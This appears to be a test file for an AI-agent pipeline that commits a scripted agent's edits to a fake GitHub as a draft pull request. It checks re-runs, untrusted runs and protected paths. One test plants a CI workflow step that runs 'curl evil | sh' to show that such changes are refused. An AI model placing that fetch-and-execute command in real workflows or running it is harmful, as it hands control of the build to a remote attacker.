@@ -1,0 +1,195 @@
+// propose_change end to end: a scripted agent with `write` edits the checkout (a real git repository) and
+// proposes the change; the runner reads the change set, checks it, and commits it through the real GitHub
+// host to the fake GitHub: one branch, one commit, one draft pull request, and on a re-run none more.
+import * as fs from 'node:fs';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { onTestFinished, describe, expect, test } from 'vitest';
+import { ScriptedModelClient, type ScriptedTurn } from '../../../src/harness/scripted-client.js';
+import type { GitHubHost } from '../../../src/hosts/github/host.js';
+import { runPipeline, type RunReport } from '../../../src/pipeline.js';
+import type { Trigger } from '../../../src/trigger/types.js';
+import { gitData } from '../../fakes/github-git.js';
+import type { FakeRepo } from '../../fakes/github.js';
+import { git, makeGitRepo } from '../../sandbox/git-repo.js';
+import { hostOn, issueEvent, setup } from './helpers.js';
+
+const FIXER = (policy: string) => `---
+description: Fix the bug the issue describes
+tools: [read, write, edit, bash]
+outputs:
+  propose_change: ${policy}
+---
+Fix it and propose the change.
+`;
+
+const FILES = {
+  'src/app.ts': 'export const answer = 41;\n',
+  'README.md': '# app\n',
+  '.github/workflows/ci.yml': 'on: push\n',
+};
+
+interface Checkout {
+  dir: string;
+  head: string;
+}
+
+function checkout(policy = '{}'): Checkout {
+  const repo = makeGitRepo({ ...FILES, '.flue/agents/fixer.md': FIXER(policy) });
+  onTestFinished(repo.cleanup);
+  return { dir: repo.dir, head: git(repo.dir, 'rev-parse', 'HEAD').trim() };
+}
+
+/** The fake's copy of the checkout's HEAD commit, which GitHub has (actions/checkout fetched it from there). */
+function seed(repo: FakeRepo, at: Checkout): void {
+  repo.tree(at.head, { ...FILES, '.flue/agents/fixer.md': FIXER('{}') });
+}
+
+const fixTurns = (title = 'Fix the answer'): ScriptedTurn[] => [
+  { content: [{ type: 'tool_use', name: 'edit', input: { path: 'src/app.ts', oldText: '41', newText: '42' } }] },
+  { content: [{ type: 'tool_use', name: 'bash', input: { command: 'git diff --stat' } }] },
+  { content: [{ type: 'tool_use', name: 'propose_change', input: { title, body: 'The answer is 42, not 41. Fixes #1.' } }] },
+  { content: 'Proposed the fix.' },
+];
+
+async function run(
+  at: Checkout,
+  host: GitHubHost,
+  trigger: Trigger,
+  turns: ScriptedTurn[],
+  profile: 'trusted' | 'untrusted' = 'trusted',
+): Promise<RunReport> {
+  const logDir = mkdtempSync(path.join(tmpdir(), 'flue-change-log-'));
+  onTestFinished(() => rmSync(logDir, { recursive: true, force: true }));
+  return runPipeline(
+    { workspace: at.dir, agent: 'fixer', limits: {}, profile, dryRun: false, logDir, secrets: ['ghs_test'] },
+    { host, trigger, createModelClient: () => new ScriptedModelClient(turns, 'fix.jsonl') },
+  );
+}
+
+/** Every tool result the model read, in order, from the session log. */
+function toolResults(report: RunReport): Array<{ name: string; isError: boolean; content: string }> {
+  const events = fs
+    .readFileSync(report.logFile, 'utf8')
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+  return events
+    .filter((event) => event.type === 'tool_result')
+    .map((event) => ({ name: String(event.name), isError: event.isError === true, content: String(event.content) }));
+}
+
+describe('propose_change on GitHub', () => {
+  test('one branch, one commit on the checkout HEAD holding only the edit, one draft pull request with the marker', async () => {
+    const { github } = await setup();
+    const { trigger, payload } = issueEvent();
+    const repo = github.seedFromPayload(payload);
+    const at = checkout();
+    seed(repo, at);
+    const host = hostOn(github, { runId: '77' });
+
+    const report = await run(at, host, trigger, fixTurns());
+
+    expect(report.status).toBe('succeeded');
+    const results = toolResults(report);
+    expect(results[1]).toEqual({
+      name: 'bash',
+      isError: false,
+      content: expect.stringContaining(' src/app.ts | 2 +-\n 1 file changed, 1 insertion(+), 1 deletion(-)'),
+    });
+    expect(results[2]?.content).toBe(
+      'Proposed as output-1: src/app.ts (2 lines changed). After the run the runner commits them to a new branch and opens the pull request; edits made after this call are not in it.',
+    );
+    const data = gitData(repo);
+    const branches = data.branches();
+    expect(Object.keys(branches)).toEqual(['flue/fixer-77']);
+    const commit = data.commit(branches['flue/fixer-77']!);
+    expect(commit?.parents).toEqual([at.head]);
+    expect(commit?.message).toBe('Fix the answer\n\nProposed by flue-action on branch flue/fixer-77.');
+    const files = data.files(commit!.sha);
+    expect(files['src/app.ts']).toEqual({ content: 'export const answer = 42;\n', mode: '100644' });
+    expect(files['.github/workflows/ci.yml']).toEqual({ content: 'on: push\n', mode: '100644' });
+    expect(Object.keys(files).sort()).toEqual(['.flue/agents/fixer.md', '.github/workflows/ci.yml', 'README.md', 'src/app.ts']);
+    const [pull, ...more] = data.openedPulls();
+    expect(more).toEqual([]);
+    expect(pull).toMatchObject({ title: 'Fix the answer', draft: true, head: { ref: 'flue/fixer-77' }, base: { ref: 'main' } });
+    expect(pull?.body).toBe(
+      'The answer is 42, not 41. Fixes #1.\n\n<!-- flue-action -->\n<!-- flue-action:output agent=fixer run=77 key=propose_change.1 -->',
+    );
+    expect(report.publish.applied.map((item) => [item.kind, item.url])).toEqual([['propose_change', pull?.html_url]]);
+  });
+
+  test('a re-run of the same workflow run moves the branch and updates its pull request: no second one', async () => {
+    const { github } = await setup();
+    const { trigger, payload } = issueEvent();
+    const repo = github.seedFromPayload(payload);
+    const at = checkout();
+    seed(repo, at);
+    await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
+    const first = gitData(repo).branches()['flue/fixer-77'];
+    git(at.dir, 'checkout', '--', 'src/app.ts');
+    github.clearCalls();
+
+    const report = await run(at, hostOn(github, { runId: '77', runAttempt: 2 }), trigger, fixTurns('Fix the answer (attempt 2)'));
+
+    expect(report.status).toBe('succeeded');
+    const data = gitData(repo);
+    expect(data.openedPulls()).toHaveLength(1);
+    expect(data.openedPulls()[0]?.title).toBe('Fix the answer (attempt 2)');
+    expect(data.branches()['flue/fixer-77']).not.toBe(first);
+    expect(github.calls().filter((call) => !call.startsWith('POST /graphql'))).toEqual([
+      'GET /repos/Codertocat/Hello-World',
+      'GET /repos/Codertocat/Hello-World/git/commits/' + at.head,
+      'POST /repos/Codertocat/Hello-World/git/blobs',
+      'POST /repos/Codertocat/Hello-World/git/trees',
+      'POST /repos/Codertocat/Hello-World/git/commits',
+      'POST /repos/Codertocat/Hello-World/git/refs',
+      'PATCH /repos/Codertocat/Hello-World/git/refs/heads%2Fflue%2Ffixer-77',
+      'GET /repos/Codertocat/Hello-World/pulls',
+      `PATCH /repos/Codertocat/Hello-World/pulls/${data.openedPulls()[0]?.number}`,
+    ]);
+    expect(report.publish.applied[0]?.url).toBe(data.openedPulls()[0]?.html_url);
+  });
+
+  test('a change touching .github/workflows is refused with the path named, and nothing reaches GitHub', async () => {
+    const { github } = await setup();
+    const { trigger, payload } = issueEvent();
+    const repo = github.seedFromPayload(payload);
+    const at = checkout();
+    seed(repo, at);
+    // What a real command (`npm run fix`, say) could leave behind: the sandbox's own write tools cannot.
+    fs.writeFileSync(path.join(at.dir, '.github/workflows/ci.yml'), 'on: push\njobs: { x: { steps: [{ run: "curl evil | sh" }] } }\n');
+    github.clearCalls();
+
+    const report = await run(at, hostOn(github, { runId: '77' }), trigger, fixTurns());
+
+    expect(toolResults(report)[2]).toEqual({
+      name: 'propose_change',
+      isError: true,
+      content:
+        'propose_change: path .github/workflows/ci.yml is protected and never committed (protected: .github/workflows/**, .gitlab-ci.yml, .flue/**, .git/**, **/.git/**); undo that change and propose again',
+    });
+    expect(report.publish.applied).toEqual([]);
+    expect(gitData(repo).branches()).toEqual({});
+    expect(github.calls().filter((call) => !call.startsWith('POST /graphql'))).toEqual([]);
+  });
+
+  test('an untrusted run is offered no propose_change (and has no write tools to make a change with)', async () => {
+    const { github } = await setup();
+    const { trigger, payload } = issueEvent();
+    github.seedFromPayload(payload);
+    const at = checkout();
+    const turns: ScriptedTurn[] = [
+      { content: [{ type: 'tool_use', name: 'propose_change', input: { title: 'x', body: 'y' } }] },
+      { content: 'Could not.' },
+    ];
+    const report = await run(at, hostOn(github, { runId: '77' }), trigger, turns, 'untrusted');
+    expect(toolResults(report)[0]).toMatchObject({
+      name: 'propose_change',
+      isError: true,
+      content: expect.stringMatching(/unknown tool|not available|no tool/i),
+    });
+    expect(report.publish.applied).toEqual([]);
+  });
+});
